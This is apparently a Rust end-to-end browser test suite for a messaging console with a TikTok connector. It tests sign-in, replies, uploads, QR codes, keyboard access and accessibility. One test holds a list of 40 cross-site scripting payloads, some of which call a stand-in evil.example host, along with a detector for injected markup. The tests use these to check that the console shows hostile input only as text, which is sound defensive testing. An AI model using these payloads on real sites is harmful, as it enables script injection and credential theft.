//! The console in a real browser, against the real programs: what a person does with it works, and what people write never
//! becomes anything but text.

mod support;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use anyhow::{Context, ensure};
use serde_json::{Value, json};
use support::{Connected, envelope, text_of};
use weir_tests::{Chromium, ENTER, HOUR_MS, Options, Stack, Subscriber, TAB, target, until};

type Result = anyhow::Result<()>;

/// A browser on the console of a connected host.
struct Console {
    weir: Connected,
    browser: Chromium,
}

impl Console {
    async fn signed_in() -> anyhow::Result<Self> {
        let folder = tempfile::tempdir()?;
        let mut options = Options::new(&folder.path().join("data"));
        // The operator's endpoint is on this machine.
        options.env.push(("WEIR_DELIVERY_ALLOW_PRIVATE".into(), "true".into()));
        let stack = Stack::start(options).await?;
        stack.install("tiktok").await?;
        stack.put_app().await?;
        let channel = stack.connect("acme_store").await?;
        let weir = Connected::of(stack, channel, folder).await?;
        let browser = Chromium::start(weir.stack.client().clone()).await?;
        sign_in(&browser, &weir.stack, "/inbox").await?;
        Ok(Self { weir, browser })
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.weir.stack.api.origin())
    }

    async fn conversation(&mut self) -> anyhow::Result<String> {
        let conversation = self.weir.conversation().await?;
        self.browser
            .click(&format!("a[href=\"/inbox/{conversation}\"]"))
            .await?;
        self.browser.holds("document.querySelector('.message')").await?;
        Ok(conversation)
    }

    async fn is_innocent(&self) -> Result {
        assert_eq!(self.browser.sins().await?, Vec::<String>::new());
        Ok(())
    }
}

async fn sign_in(browser: &Chromium, stack: &Stack, path: &str) -> Result {
    browser.open(&format!("{}{path}", stack.api.origin())).await?;
    browser.write("input[name=key]", stack.api.key()).await?;
    browser.press("Sign in").await?;
    browser.holds("document.querySelector('.live.on')").await
}

/// A small picture that any platform takes, and a file that TikTok takes from nobody.
fn files(folder: &Path) -> anyhow::Result<(PathBuf, PathBuf)> {
    let picture = folder.join("blue.png");
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, 64, 64);
    encoder.set_color(png::ColorType::Rgb);
    encoder
        .write_header()?
        .write_image_data(&[30, 90, 200].repeat(64 * 64))?;
    std::fs::write(&picture, bytes)?;
    let animation = folder.join("dance.gif");
    std::fs::write(&animation, b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")?;
    Ok((picture, animation))
}

#[tokio::test]
async fn a_person_installs_connects_and_holds_a_conversation_until_the_window_closes() -> Result {
    let folder = tempfile::tempdir()?;
    let stack = Stack::start(Options::new(&folder.path().join("data"))).await?;
    let browser = Chromium::start(stack.client().clone()).await?;

    // A wrong key is told in words, and the right one goes on.
    browser.open(&format!("{}/connectors", stack.api.origin())).await?;
    browser.write("input[name=key]", "weir_0000000000000000").await?;
    browser.press("Sign in").await?;
    browser.shows("missing or unknown").await?;
    sign_in(&browser, &stack, "/connectors").await?;
    let cookie = browser.script("return document.cookie", json!([])).await?;
    assert_eq!(cookie, "", "no script can read the session");

    // The component, what it asks for, the yes, and the promotion.
    let component = target()?.join("connectors/tiktok.wasm");
    let component = component.to_str().context("an odd path")?;
    browser.write("input[type=file]", component).await?;
    browser.shows("not decided").await?;
    browser.shows("the connector never sees it").await?;
    browser.press("Say yes to what is ticked").await?;
    browser.shows("All decided").await?;
    browser.press("Let it serve").await?;
    browser.click("dialog button[value=yes]").await?;
    browser.holds("document.querySelector('.timeline .active')").await?;
    stack.put_app().await?;

    // An account, through the platform's own pages in another tab.
    let mut events = stack.api.listen().await?;
    browser.click("a[href=\"/channels\"]").await?;
    browser.press("Connect an account").await?;
    browser.shows("Let everyone send direct messages").await?;
    browser.click("dialog button[value=yes]").await?;
    browser.click("#consent").await?;
    browser.to_page(1).await?;
    browser.press("Authorize").await?;
    browser.shows("You can close this page").await?;
    browser.to_page(0).await?;
    browser.shows("Connected.").await?;
    browser.click("dialog button[value=yes]").await?;
    browser.holds("document.querySelector('a.card .pill.good')").await?;

    // A customer writes; it appears by itself, and is unread until somebody says so.
    browser.click("a[href=\"/inbox\"]").await?;
    browser.shows("Nobody has written yet").await?;
    stack.hears(&mut events, "Is the blue one in stock?").await?;
    assert_eq!(browser.text(".badge").await?, "1");
    browser.click(".row-link").await?;
    browser.shows("of 10 messages left").await?;
    assert!(browser.text(".count").await?.starts_with("47 h 59 min"));
    browser.press("Mark as read").await?;
    browser.holds("!document.querySelector('.badge')").await?;

    // An answer, its way to the phone, and the read mark.
    browser.click(".composer textarea").await?;
    browser.keys("It is! See www.acme.example for sizes").await?;
    browser.shows("Links cannot be tapped there").await?;
    browser.keys(ENTER).await?;
    until("the answer on the phone", async || {
        let sent = stack.phone.from_business().await?;
        Ok(sent
            .iter()
            .any(|it| it["text"] == "It is! See www.acme.example for sizes")
            .then_some(()))
    })
    .await?;
    browser.holds("document.querySelector('.own .standing.sent')").await?;
    browser.shows("9 of 10 messages left").await?;
    stack.phone.does("read", json!({})).await?;
    browser.holds("document.querySelector('.own .standing.read')").await?;
    let event = events.wait_for("message.read").await?;
    assert_eq!(event["data"]["origin"], "console");

    // A picture; and one that the platform would refuse, refused before it is uploaded.
    let (picture, animation) = files(folder.path())?;
    let input = ".composer input[type=file]";
    browser.write(input, animation.to_str().context("an odd path")?).await?;
    browser.shows("The platform does not take image/gif").await?;
    browser.script(DROP, json!(["image/gif"])).await?;
    browser.shows("The platform does not take image/gif").await?;
    browser.write(input, picture.to_str().context("an odd path")?).await?;
    browser.holds("document.querySelector('.attached canvas')").await?;
    browser.click(".send").await?;
    browser
        .holds("[...document.querySelectorAll('.own .picture img')].some((it) => it.naturalWidth === 64)")
        .await?;
    let uploads = browser
        .script(
            "return performance.getEntriesByType('resource').filter((it) => it.name.endsWith('/v1/media')).length",
            json!([]),
        )
        .await?;
    assert_eq!(uploads, 1, "what is refused is never uploaded");

    // The window counts down, and closes.
    stack.time_passes(47 * HOUR_MS).await?;
    browser
        .holds("document.querySelector('.fact.warn .count')?.textContent.match(/^(59|58) min/)")
        .await?;
    stack.time_passes(HOUR_MS).await?;
    browser
        .holds("document.querySelector('.no [data-code=reply_window_closed]')")
        .await?;
    browser
        .holds("document.querySelector('.composer textarea').disabled")
        .await?;
    browser.shows("The window is closed").await?;
    stack.hears(&mut events, "Are you there?").await?;
    browser
        .holds("!document.querySelector('.composer textarea').disabled")
        .await?;
    browser.shows("10 of 10 messages left").await?;

    // And out.
    browser.press("Sign out").await?;
    browser.holds("document.querySelector('.signin')").await?;
    browser.open(&format!("{}/inbox", stack.api.origin())).await?;
    browser.holds("document.querySelector('.signin')").await?;
    assert_eq!(browser.sins().await?, Vec::<String>::new());
    drop(events);
    browser.close().await?;
    stack.stop().await
}

/// Drops a file of a type on the open conversation.
const DROP: &str = "
    const carried = new DataTransfer();
    carried.items.add(new File(['x'], 'x', { type: arguments[0] }));
    for (const name of ['dragover', 'drop'])
      document.querySelector('.pane').dispatchEvent(new DragEvent(name, { dataTransfer: carried, bubbles: true, cancelable: true }));";

#[tokio::test]
async fn what_did_not_leave_says_why_and_what_to_do() -> Result {
    let mut console = Console::signed_in().await?;
    console.conversation().await?;
    let browser = &console.browser;
    let phone = &console.weir.stack.phone;
    browser.click(".composer textarea").await?;
    browser.keys("Hello again").await?;
    // The mark that somebody types goes the same way as a message: the fault is for what comes after it.
    until("the typing mark", async || {
        Ok((!phone.calls("send").await?.is_empty()).then_some(()))
    })
    .await?;
    let fault = json!({"code": 40064, "message": "Due to risk control strategy."});
    phone.order_fault(json!({"on": "send", "fault": fault})).await?;
    browser.keys(ENTER).await?;
    browser.holds("document.querySelector('.trouble.bad')").await?;
    browser.shows("Due to risk control strategy.").await?;
    browser.shows("What to do:").await?;
    browser.press("What left").await?;
    browser.shows("Try 1: failed").await?;
    browser.click("dialog button[value=yes]").await?;
    browser.press("Try again").await?;
    browser.holds("document.querySelector('.own .standing.sent')").await?;
    console.is_innocent().await
}

#[tokio::test]
async fn the_code_on_the_sign_is_the_link_that_is_shown() -> Result {
    let console = Console::signed_in().await?;
    let browser = &console.browser;
    let channel = text_of(&console.weir.channel["id"])?;
    browser.open(&console.url(&format!("/channels/{channel}"))).await?;
    browser.write("input[placeholder^=Hello]", "Привет! ☺ & more").await?;
    browser.write("input[placeholder=shop-window]", "window_7").await?;
    browser
        .holds("document.querySelector('[aria-label=Growth] code').textContent.includes('window_7')")
        .await?;
    let link = browser.text("[aria-label=Growth] code").await?;
    ensure!(link.contains("%D0%9F") && link.contains("%26"), "{link}");
    let drawn = browser
        .script_later(
            "const done = arguments[arguments.length - 1];
             const at = [...document.querySelectorAll('[aria-label=Growth] a[download]')].find((it) => it.textContent === 'PNG').href;
             fetch(at).then((it) => it.arrayBuffer()).then((it) => done([...new Uint8Array(it)]));",
            json!([]),
        )
        .await?;
    let bytes: Vec<u8> = serde_json::from_value(drawn)?;
    assert_eq!(decoded(&bytes)?, link);
    // The preview is the same code, drawn in the page.
    browser
        .holds("document.querySelector('.qr img').complete && document.querySelector('.qr img').naturalWidth > 0")
        .await?;
    console.is_innocent().await
}

/// What a QR code says.
fn decoded(picture: &[u8]) -> anyhow::Result<String> {
    let mut reader = png::Decoder::new(std::io::Cursor::new(picture)).read_info()?;
    let mut pixels = vec![0; reader.output_buffer_size().context("the picture is too large")?];
    let info = reader.next_frame(&mut pixels)?;
    let (width, height) = (info.width as usize, info.height as usize);
    let bits = info.bit_depth as usize * info.color_type.samples();
    let is_light = |x: usize, y: usize| {
        let at = x * bits;
        let byte = pixels[y * info.line_size + at / 8];
        if bits >= 8 {
            byte > 127
        } else {
            byte >> (8 - bits - at % 8) & 1 == 1
        }
    };
    let mut image =
        rqrr::PreparedImage::prepare_from_greyscale(width, height, |x, y| if is_light(x, y) { 255 } else { 0 });
    let grids = image.detect_grids();
    let (_, text) = grids.first().context("there is no code in the picture")?.decode()?;
    Ok(text)
}

/// What a hostile contact may write, wherever they may write.
const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<img src=//evil.example/pixel.png>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`-alert(1)-`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}<script>alert(1)</script>\u{2066}",
    "<x style='position:fixed;inset:0' onmouseover=alert(1)>x</x>",
];

#[tokio::test]
async fn nothing_that_anybody_writes_becomes_markup_or_runs() -> Result {
    let console = Console::signed_in().await?;
    let names: BTreeSet<&str> = PAYLOADS.into_iter().collect();
    assert_eq!(names.len(), 40);
    let business = text_of(&console.weir.channel["platform_id"])?;
    let now = console.weir.now().await?;
    // As texts, names, links, referrals, and in what the platform calls things.
    for (n, payload) in PAYLOADS.into_iter().enumerate() {
        for kind in ["text", "share_post", payload] {
            let person = format!("U{}", n % 4);
            let mut content = json!({
                "from": payload, "to": "acme_store", "unique_identifier": person,
                "from_user": {"id": person, "role": "personal_account"},
                "to_user": {"id": business, "role": "business_account"},
                "conversation_id": format!("C{}", n % 4), "message_id": format!("M{n}{}", kind.len()),
                "timestamp": now + i64::try_from(n)?, "type": kind, "text": {"body": payload},
                "share_post": {"embed_url": payload, "item_id": payload},
            });
            let body = envelope(&business, "im_receive_msg", now / 1000, &content);
            assert_eq!(console.weir.webhook(&body, 0).await?, 200, "{payload}");
            content["referral"] = json!({"source": payload, "ad": {
                "advertiser_id": payload, "ad_id": payload, "ad_name": payload, "embed_url": payload, "message_material_id": payload,
                "timestamp": now,
            }});
            let body = envelope(&business, "im_referral_msg", now / 1000, &content);
            assert_eq!(console.weir.webhook(&body, 0).await?, 200, "{payload}");
        }
    }
    // What operators enter is shown to other operators.
    let api = &console.weir.stack.api;
    let channel = text_of(&console.weir.channel["id"])?;
    let labels: serde_json::Map<String, Value> = PAYLOADS
        .iter()
        .take(20)
        .map(|it| ((*it).to_owned(), json!(*it)))
        .collect();
    let request = api.request("PATCH".parse()?, &format!("/v1/channels/{channel}"));
    api.send(request.json(&json!({"name": PAYLOADS[1], "labels": labels})))
        .await?
        .expect(200)?;
    for payload in PAYLOADS.iter().take(12) {
        api.post("/v1/keys", json!({"name": payload, "scopes": ["read"]}))
            .await?
            .expect(201)?;
        api.post(
            "/v1/endpoints",
            json!({"url": "http://127.0.0.1:9/", "description": payload, "types": ["endpoint.failing"]}),
        )
        .await?
        .expect(201)?;
    }
    let conversations = api.get("/v1/conversations").await?.expect(200)?;
    let ids: Vec<String> = conversations["data"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|it| text_of(&it["id"]))
        .collect::<anyhow::Result<_>>()?;
    assert!(ids.len() >= 4, "{conversations:#}");

    let browser = &console.browser;
    let mut seen = String::new();
    for id in &ids {
        browser.open(&console.url(&format!("/inbox/{id}"))).await?;
        browser.holds("document.querySelector('.message')").await?;
        seen.push_str(&browser.text(".thread").await?);
        // File names are the operator's browser's own.
        let file = "const given = new DataTransfer(); given.items.add(new File([arguments[1]], arguments[0], { type: 'image/png' }));
            const input = document.querySelector('.composer input[type=file]'); input.files = given.files; input.dispatchEvent(new Event('change'));";
        browser.script(file, json!([PAYLOADS[1], "x"])).await?;
        no_strangers(browser).await?;
        console.is_innocent().await?;
    }
    for payload in PAYLOADS {
        let plain: String = payload
            .chars()
            .filter(|c| !matches!(c, '\u{202e}' | '\u{2066}' | '\t'))
            .collect();
        let seen: String = seen
            .chars()
            .filter(|c| !matches!(c, '\u{202e}' | '\u{2066}' | '\t'))
            .collect();
        assert!(seen.contains(&plain), "{payload} is not shown as it was written");
    }
    for (path, ready) in [
        (format!("/channels/{channel}"), ".checks"),
        ("/channels".to_owned(), ".card"),
        ("/events".to_owned(), ".tail li"),
        ("/endpoints".to_owned(), ".card"),
        ("/settings".to_owned(), "tbody tr"),
        ("/".to_owned(), ".figures"),
    ] {
        browser.open(&console.url(&path)).await?;
        browser
            .holds(&format!("document.querySelector({})", json!(ready)))
            .await?;
        browser
            .script(
                "for (const it of document.querySelectorAll('details')) it.open = true",
                json!([]),
            )
            .await?;
        browser.holds("!document.querySelector('[aria-busy]')").await?;
        no_strangers(browser).await?;
        console.is_innocent().await?;
    }
    Ok(())
}

/// No element stands in the page that only a payload would put there, and no attribute that runs.
async fn no_strangers(browser: &Chromium) -> Result {
    let found = browser
        .script(
            "const tags = 'script:not([src^=\"/console/\"]), iframe, object, embed, audio, video, source, math, style, base, meta[http-equiv], x, form[action]';
             const running = [...document.querySelectorAll('*')].filter((it) => [...it.attributes].some((one) => /^on/.test(one.name) || (/^(href|src|action|formaction)$/.test(one.name) && /^\\s*(java\\s*script|data):/i.test(one.value))));
             return [...document.querySelectorAll(tags), ...running].map((it) => it.outerHTML.slice(0, 200))",
            json!([]),
        )
        .await?;
    assert_eq!(found, json!([]));
    Ok(())
}

#[tokio::test]
async fn the_keyboard_alone_is_enough() -> Result {
    let mut console = Console::signed_in().await?;
    let browser = &console.browser;
    browser.press("Sign out").await?;
    browser.holds("document.activeElement.name === 'key'").await?;
    browser.keys(console.weir.stack.api.key()).await?;
    browser.keys(ENTER).await?;
    browser.holds("document.querySelector('.live.on')").await?;
    let events = &mut console.weir.events;
    console.weir.stack.hears(events, "Only keys").await?;
    // Every place is reached by Tab, and where one is can be seen.
    let mut reached = BTreeSet::new();
    for _ in 0..14 {
        browser.keys(TAB).await?;
        let at = browser
            .script(
                "const it = document.activeElement; const look = getComputedStyle(it);
                 return [it.getAttribute('href') ?? it.textContent, look.outlineStyle !== 'none' || look.boxShadow !== 'none' || it === document.body]",
                json!([]),
            )
            .await?;
        assert_eq!(at[1], true, "the focus cannot be seen on {}", at[0]);
        reached.insert(at[0].as_str().unwrap_or_default().to_owned());
    }
    for place in ["/channels", "/events", "/endpoints", "/connectors", "/settings"] {
        assert!(reached.contains(place), "{place} is not in {reached:?}");
    }
    browser.script("document.activeElement.blur()", json!([])).await?;
    browser.keys("3").await?;
    browser.holds("document.querySelector('main.channels')").await?;
    browser.keys("2").await?;
    browser.holds("document.querySelector('.row-link')").await?;
    browser.keys("j").await?;
    browser.holds("document.activeElement.matches('.row-link')").await?;
    browser.keys(ENTER).await?;
    browser
        .holds("document.activeElement.matches('.composer textarea')")
        .await?;
    browser.keys("Answered by keys").await?;
    browser.keys(ENTER).await?;
    browser.holds("document.querySelector('.own .standing.sent')").await?;
    console.is_innocent().await
}

#[tokio::test]
async fn an_endpoint_is_added_fails_is_looked_into_and_recovers() -> Result {
    let mut console = Console::signed_in().await?;
    let subscriber = Subscriber::answering(vec![500, 200]).await?;
    let browser = &console.browser;
    browser.open(&console.url("/endpoints")).await?;
    browser.press("Add an endpoint").await?;
    browser.write("dialog input[type=url]", subscriber.url()).await?;
    browser.click("dialog button[value=yes]").await?;
    browser.shows("It is shown once").await?;
    assert!(browser.text("dialog code").await?.starts_with("whsec_"));
    browser.click("dialog button[value=yes]").await?;
    browser.shows("Takes its events").await?;
    let events = &mut console.weir.events;
    console.weir.stack.hears(events, "Hello").await?;
    until("two calls", async || Ok((subscriber.handed().len() >= 2).then_some(()))).await?;
    browser.open(&console.url("/endpoints")).await?;
    browser.click("a.card").await?;
    browser.holds("document.querySelector('details.tail')").await?;
    browser
        .script(
            "for (const it of document.querySelectorAll('details.tail')) it.open = true",
            json!([]),
        )
        .await?;
    browser.shows("· 500 ·").await?;
    browser.shows("· 200 ·").await?;
    browser.press("New secret").await?;
    browser.click("dialog button[value=yes]").await?;
    browser.shows("It is shown once").await?;
    browser.click("dialog button[value=yes]").await?;
    browser.shows("works until").await?;
    console.is_innocent().await
}

/// The places, and what shows that they are there.
const PLACES: [(&str, &str, &str); 8] = [
    ("overview", "/", ".figures"),
    ("inbox", "/inbox", ".row-link"),
    ("channels", "/channels", ".card"),
    ("events", "/events", ".tail li"),
    ("endpoints", "/endpoints", ".card, .empty"),
    ("connectors", "/connectors", ".card"),
    ("connector", "/connectors/tiktok", ".grants li"),
    ("settings", "/settings", "tbody tr"),
];

#[tokio::test]
async fn every_page_is_sound_in_both_themes_and_at_three_widths() -> Result {
    let mut console = Console::signed_in().await?;
    let conversation = console.conversation().await?;
    console
        .weir
        .say(&conversation, "It is! Shall I put one aside for you? 💙")
        .await?;
    let phone = console.weir.stack.phone.clone();
    phone.does("read", json!({})).await?;
    phone.writes("Yes please, in size M. This one:").await?;
    phone.does("write", json!({"type": "image"})).await?;
    phone.writes("هل يمكنكم الشحن إلى دبي؟ 🙂").await?;
    phone.does("ad-click", json!({"ad_name": "Summer in blue"})).await?;
    phone.does("write", json!({"type": "sticker"})).await?;
    console
        .weir
        .say(&conversation, "We ship everywhere. Shall I send it there?")
        .await?;
    let channel = text_of(&console.weir.channel["id"])?;
    let axe = std::fs::read_to_string(target()?.join("axe/node_modules/axe-core/axe.min.js"))
        .context("axe-core is not here; `cargo xtask test` fetches it")?;
    let pictures = target()?.join("screenshots");
    let browser = &console.browser;
    let mut places: Vec<(&str, String, &str)> = PLACES.map(|(name, path, ready)| (name, path.to_owned(), ready)).into();
    places.push((
        "conversation",
        format!("/inbox/{conversation}"),
        ".message:nth-of-type(8) .bubble, .own .standing",
    ));
    places.push(("channel", format!("/channels/{channel}"), ".checks"));
    for (name, path, ready) in &places {
        browser.open(&console.url(path)).await?;
        browser
            .holds(&format!("document.querySelector({})", json!(ready)))
            .await?;
        browser
            .holds("document.querySelector('.live.on') && !document.querySelector('[aria-busy]')")
            .await?;
        browser
            .holds("[...document.images].every((it) => it.complete || it.loading === 'lazy')")
            .await?;
        browser.script(&axe, json!([])).await?;
        for theme in ["light", "dark"] {
            for (width, height) in [(1280, 860), (820, 1100), (390, 800)] {
                browser.looks(width, height, theme).await?;
                browser
                    .screenshot(&pictures.join(format!("{name}-{theme}-{width}.png")))
                    .await?;
                let wide = browser
                    .script("return document.documentElement.scrollWidth <= innerWidth", json!([]))
                    .await?;
                assert_eq!(wide, true, "{name} is wider than {width}");
            }
            browser.looks(1280, 860, theme).await?;
            assert_eq!(findings(browser).await?, Vec::<String>::new(), "{name}, {theme}");
        }
    }
    // The first page, before anybody is signed in.
    let fresh = Chromium::start(console.weir.stack.client().clone()).await?;
    fresh.open(&console.url("/")).await?;
    fresh.holds("document.querySelector('.signin')").await?;
    fresh.script(&axe, json!([])).await?;
    fresh.screenshot(&pictures.join("sign-in-light-1280.png")).await?;
    assert_eq!(findings(&fresh).await?, Vec::<String>::new(), "sign-in");
    let size = fresh
        .script(
            "return performance.getEntriesByType('resource').concat(performance.getEntriesByType('navigation')).reduce((sum, it) => sum + it.decodedBodySize, 0)",
            json!([]),
        )
        .await?;
    assert!(
        size.as_u64().is_some_and(|size| (10_000..100_000).contains(&size)),
        "{size} bytes"
    );
    fresh.close().await
}

/// What axe-core finds serious, in words.
async fn findings(browser: &Chromium) -> anyhow::Result<Vec<String>> {
    let found = browser
        .script_later(
            "const done = arguments[arguments.length - 1];
             axe.run(document, { resultTypes: ['violations'] }).then(({ violations }) => done(violations
                 .filter((it) => ['serious', 'critical'].includes(it.impact))
                 .map((it) => `${it.id}: ${it.help}: ${it.nodes.slice(0, 4).map((node) => `${node.html.slice(0, 160)} ${node.any.map((one) => one.message).join(' ')}`).join(' | ')}`)), (error) => done([String(error)]));",
            json!([]),
        )
        .await?;
    Ok(serde_json::from_value(found)?)
}
